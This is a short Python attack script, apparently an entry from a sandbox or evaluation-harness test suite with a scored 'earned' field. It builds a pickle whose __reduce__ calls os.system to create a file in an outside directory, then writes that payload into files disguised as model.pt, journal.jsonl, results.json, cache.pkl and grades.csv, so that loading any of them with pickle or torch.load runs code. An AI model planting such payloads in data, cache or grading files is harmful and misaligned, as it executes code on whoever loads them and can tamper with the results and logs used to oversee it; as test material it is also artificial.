# /// attack
# title = "pickles in files: for torch.load, for the journal, for a cache"
# earned = [3, 1]
# ///
# %%
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {OUTSIDE}/unpickled",)


for name in ("model.pt", "journal.jsonl", "results.json", "cache.pkl", "grades.csv"):
    with open(name, "wb") as file:
        pickle.dump(Bomb(), file)
